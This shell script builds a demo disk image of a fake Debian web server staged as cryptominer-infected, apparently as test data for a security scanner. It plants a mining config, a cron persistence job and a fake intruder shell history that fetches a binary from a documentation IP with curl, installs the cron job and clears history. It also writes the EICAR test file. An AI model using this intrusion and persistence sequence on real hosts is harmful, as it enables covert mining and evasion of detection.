#!/bin/sh
# SPDX-License-Identifier: BSD-3-Clause
# Build a small demo disk image for vmscan: an MBR disk with one ext4
# partition holding a tiny Debian 12 "web server" (demo-web01) that has
# been turned into a cryptominer: an XMRig-style config and a fake miner
# in /var/tmp/.cache, a cron job in /etc/cron.d/sysupdate that restarts
# it, and an EICAR test file in /home/deploy.  Nothing in it is live
# malware: the "miner" is a copy of true(1) with strings appended, the
# wallet and the SSH key are made up, and the EICAR file is assembled
# from two halves so the repository never holds it in one piece.
#
# Host tools only (no libguestfs appliance, no loop devices, no mount):
# mke2fs -d, debugfs, sfdisk, dd, qemu-img.  On Debian 12 that is
# e2fsprogs, fdisk and qemu-utils.  Works as root or as any user; file
# owners inside the image are set with debugfs either way.
#
# Usage: scripts/make-demo-image.sh OUTPUT.qcow2

set -eu

if [ "$#" -ne 1 ]; then
  echo "usage: $0 OUTPUT.qcow2" >&2
  exit 2
fi
output="$1"
# The script changes directory; make the output path absolute first.
case "$output" in
  /*) ;;
  *) output="$(pwd)/$output" ;;
esac

for tool in mke2fs debugfs sfdisk qemu-img; do
  if ! command -v "$tool" >/dev/null 2>&1; then
    # sfdisk, mke2fs and debugfs live in /sbin, not always on a user's PATH.
    if [ -x "/sbin/$tool" ] || [ -x "/usr/sbin/$tool" ]; then
      PATH="$PATH:/usr/sbin:/sbin"
      export PATH
    else
      echo "$0: $tool not found (Debian: apt-get install e2fsprogs fdisk qemu-utils)" >&2
      exit 1
    fi
  fi
done

true_bin=/bin/true
if [ ! -f "$true_bin" ]; then
  true_bin=/usr/bin/true
fi

tmpdir="$(mktemp -d "${TMPDIR:-/tmp}/make-demo-image.XXXXXX")"
cleanup() {
  rm -rf "$tmpdir"
  rm -f "$output.tmp"
}
trap cleanup EXIT
trap 'exit 1' HUP INT TERM

tree="$tmpdir/tree"
part="$tmpdir/part.img"
disk="$tmpdir/disk.raw"

# Geometry: one partition of 64 MiB starting at 1 MiB (sector 2048).
part_mib=64
part_start=2048
part_sectors=$((part_mib * 2048))
disk_sectors=$((part_start + part_sectors))

# ---- The directory tree ------------------------------------------------

umask 022
mkdir -p "$tree"
cd "$tree"

mkdir -p etc/cron.d etc/cron.daily etc/ssh usr/bin usr/sbin usr/lib \
  var/www/html var/log var/lib var/tmp var/tmp/.cache \
  home/deploy/.ssh root tmp boot dev proc sys run mnt opt srv
# Debian 12 has a merged /usr.
ln -s usr/bin bin
ln -s usr/sbin sbin
ln -s usr/lib lib
chmod 1777 tmp var/tmp
chmod 0700 root home/deploy/.ssh

cat >etc/os-release <<'EOF'
PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"
NAME="Debian GNU/Linux"
VERSION_ID="12"
VERSION="12 (bookworm)"
VERSION_CODENAME=bookworm
ID=debian
HOME_URL="https://www.debian.org/"
SUPPORT_URL="https://www.debian.org/support"
BUG_REPORT_URL="https://bugs.debian.org/"
EOF
echo "12.8" >etc/debian_version
printf 'Debian GNU/Linux 12 \\n \\l\n\n' >etc/issue
echo "demo-web01" >etc/hostname

cat >etc/hosts <<'EOF'
127.0.0.1	localhost
127.0.1.1	demo-web01.example.com	demo-web01

::1	localhost ip6-localhost ip6-loopback
ff02::1	ip6-allnodes
ff02::2	ip6-allrouters
EOF

cat >etc/fstab <<'EOF'
# /etc/fstab: static file system information.
#
# <file system>  <mount point>  <type>  <options>          <dump>  <pass>
LABEL=demo-root  /              ext4    errors=remount-ro  0       1
EOF

cat >etc/passwd <<'EOF'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sys:x:3:3:sys:/dev:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
sshd:x:100:65534::/run/sshd:/usr/sbin/nologin
deploy:x:1000:1000:Deploy user,,,:/home/deploy:/bin/bash
EOF

cat >etc/group <<'EOF'
root:x:0:
daemon:x:1:
bin:x:2:
sys:x:3:
adm:x:4:
sudo:x:27:deploy
www-data:x:33:deploy
shadow:x:42:
users:x:100:
nogroup:x:65534:
deploy:x:1000:
EOF

# No password hashes: every account is locked or has no password set.
cat >etc/shadow <<'EOF'
root:*:19884:0:99999:7:::
daemon:*:19884:0:99999:7:::
bin:*:19884:0:99999:7:::
sys:*:19884:0:99999:7:::
www-data:*:19884:0:99999:7:::
nobody:*:19884:0:99999:7:::
sshd:!:19884::::::
deploy:!:19905:0:99999:7:::
EOF
chmod 0640 etc/shadow

cat >etc/crontab <<'EOF'
# /etc/crontab: system-wide crontab
# Unlike any other crontab you don't have to run the `crontab'
# command to install the new version when you edit this file
# and files in /etc/cron.d. These files also have username fields,
# that none of the other crontabs do.

SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

# Example of job definition:
# .---------------- minute (0 - 59)
# |  .------------- hour (0 - 23)
# |  |  .---------- day of month (1 - 31)
# |  |  |  .------- month (1 - 12) OR jan,feb,mar,apr ...
# |  |  |  |  .---- day of week (0 - 6) (Sunday=0 or 7) OR sun,mon,tue,wed,thu,fri,sat
# |  |  |  |  |
# *  *  *  *  * user-name command to be executed
17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly
25 6	* * *	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
47 6	* * 7	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }
52 6	1 * *	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }
EOF

# Small host binaries, so that the image has real ELF files (libguestfs
# inspection reads /bin/ls and friends to find the architecture).
for b in true false echo ls; do
  if [ -f "/bin/$b" ]; then
    cp "/bin/$b" "usr/bin/$b"
  else
    cp "/usr/bin/$b" "usr/bin/$b"
  fi
done

cat >var/www/html/index.html <<'EOF'
<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>demo-web01</title>
</head>
<body>
  <h1>It works!</h1>
  <p>demo-web01 is a vmscan demo image.  Nothing to see here.</p>
</body>
</html>
EOF

# A made-up ed25519 public key: a well-formed key blob whose 32 key bytes
# are the text "vmscan-demo-key-not-a-real-key!!", so nobody holds the
# matching private key.
cat >home/deploy/.ssh/authorized_keys <<'EOF'
ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHZtc2Nhbi1kZW1vLWtleS1ub3QtYS1yZWFsLWtleSEh deploy@laptop
EOF
chmod 0600 home/deploy/.ssh/authorized_keys

cat >home/deploy/.profile <<'EOF'
# ~/.profile: executed by the command interpreter for login shells.
if [ -d "$HOME/bin" ] ; then
    PATH="$HOME/bin:$PATH"
fi
EOF

# The intruder's shell history (addresses are from TEST-NET-3).
cat >home/deploy/.bash_history <<'EOF'
uname -a
nproc
cd /var/tmp && mkdir .cache && cd .cache
curl -fsSLo kworker http://203.0.113.7/k
chmod +x kworker
sudo tee /etc/cron.d/sysupdate </tmp/c
./kworker -c config.json
history -c
EOF
chmod 0600 home/deploy/.bash_history

# ---- Things for the rules to find ---------------------------------------

# A made-up Monero address: 95 characters, "4" then [1-9AB] then base58,
# with no valid checksum.
part58='DemoWa11etNotRea1DoNotSend'
wallet="4Avmscan${part58}${part58}${part58}DemoWa11e"

cat >var/tmp/.cache/config.json <<EOF
{
    "api": {
        "id": null,
        "worker-id": null
    },
    "autosave": true,
    "background": true,
    "colors": false,
    "donate-level": 0,
    "cpu": {
        "enabled": true,
        "huge-pages": true,
        "priority": 0,
        "max-threads-hint": 90
    },
    "randomx": {
        "init": -1,
        "mode": "auto",
        "1gb-pages": false
    },
    "pools": [
        {
            "algo": "rx/0",
            "coin": "monero",
            "url": "stratum+tcp://pool.supportxmr.com:3333",
            "user": "${wallet}",
            "pass": "demo-web01",
            "rig-id": null,
            "nicehash": false,
            "keepalive": true,
            "enabled": true,
            "tls": false
        },
        {
            "url": "stratum+ssl://gulf.moneroocean.stream:20128",
            "user": "${wallet}",
            "pass": "demo-web01",
            "keepalive": true,
            "tls": true
        }
    ],
    "print-time": 60,
    "retries": 5,
    "retry-pause": 5,
    "syslog": false,
    "user-agent": null
}
EOF

# The "miner": true(1) with XMRig's strings appended.
cp "$true_bin" var/tmp/.cache/kworker
{
  printf '\000XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0\000'
  printf 'Usage: xmrig [OPTIONS]\000--donate-level=N\000'
  printf 'donate.v2.xmrig.com\000rx/0\000randomx\000cryptonight\000'
} >>var/tmp/.cache/kworker
chmod 0755 var/tmp/.cache/kworker

cat >etc/cron.d/sysupdate <<'EOF'
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
*/10 * * * * root cd /var/tmp/.cache && /var/tmp/.cache/kworker -c config.json >/dev/null 2>&1
EOF

# The EICAR test file, from two halves ($ and \ are literal here).
# shellcheck disable=SC2016
eicar1='X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-'
# shellcheck disable=SC2016
eicar2='STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
printf '%s%s' "$eicar1" "$eicar2" >home/deploy/eicar.com

# ---- Times: installed in June, deploy user in July, intrusion in November.

TZ=UTC0
export TZ
find . -exec touch -h -t 202406100900.00 {} +
find home/deploy -exec touch -h -t 202407021130.00 {} +
for p in var/tmp/.cache var/tmp/.cache/kworker var/tmp/.cache/config.json \
  etc/cron.d/sysupdate etc/cron.d home/deploy/.bash_history \
  home/deploy/eicar.com home/deploy var/tmp; do
  touch -h -t 202411200314.00 "$p"
done

cd /

# ---- The filesystem ------------------------------------------------------

# 256-byte inodes keep nanosecond times and birth times, which vmscan
# records.  A fixed UUID keeps the demo's identifiers stable.  The sparse
# file is made first so that mke2fs has nothing to announce.
dd if=/dev/zero of="$part" bs=1M count=0 seek="$part_mib" status=none
mke2fs -q -t ext4 -I 256 -L demo-root -U 5c0a1d6e-7b3f-4d8a-9e21-6d656d6f0001 \
  -d "$tree" "$part" "${part_mib}M"

# Owners and times.  Owners: root everywhere, shadow group on
# /etc/shadow, deploy (1000) on its home and on the miner directory.
# Times: mke2fs -d copies atime and mtime (except for the root
# directory) but sets ctime and the birth time to now; make all four
# equal to the mtime in the tree, as for files unpacked at that moment.  debugfs edits the image directly, so this is the same
# whether or not the script runs as root.
cmds="$tmpdir/debugfs.cmds"
(
  cd "$tree"
  find . | while IFS= read -r p; do
    t="@$(stat -c %Y "$p")"
    p="/${p#./}"
    if [ "$p" = "/." ]; then
      p=/
    fi
    case "$p" in
      /home/deploy | /home/deploy/* | /var/tmp/.cache | /var/tmp/.cache/*)
        uid=1000 gid=1000 ;;
      /etc/shadow)
        uid=0 gid=42 ;;
      *)
        uid=0 gid=0 ;;
    esac
    for f in "uid $uid" "gid $gid" "atime $t" "mtime $t" "ctime $t" "crtime $t"; do
      printf 'sif "%s" %s\n' "$p" "$f"
    done
    if [ "$p" = / ]; then
      for f in "atime $t" "mtime $t" "ctime $t" "crtime $t"; do
        printf 'sif /lost+found %s\n' "$f"
      done
    fi
  done
) >"$cmds"
debugfs -w -f "$cmds" "$part" >"$tmpdir/debugfs.log" 2>&1
if grep -i -e 'error' -e 'not found' -e 'invalid' -e 'usage' \
  "$tmpdir/debugfs.log" >&2; then
  echo "$0: debugfs reported problems setting owners and times" >&2
  exit 1
fi

# ---- The disk ---------------------------------------------------------------

# A sparse raw file of the whole disk, then the partition table.
dd if=/dev/zero of="$disk" bs=512 count=0 seek="$disk_sectors" status=none
cat >"$tmpdir/sfdisk.in" <<EOF
label: dos
label-id: 0x766d7363
unit: sectors

start=$part_start, size=$part_sectors, type=83
EOF
if ! sfdisk -q "$disk" <"$tmpdir/sfdisk.in" >"$tmpdir/sfdisk.log" 2>&1; then
  cat "$tmpdir/sfdisk.log" >&2
  exit 1
fi
dd if="$part" of="$disk" bs=512 seek="$part_start" conv=notrunc,sparse status=none

qemu-img convert -q -f raw -O qcow2 "$disk" "$output.tmp"
mv "$output.tmp" "$output"
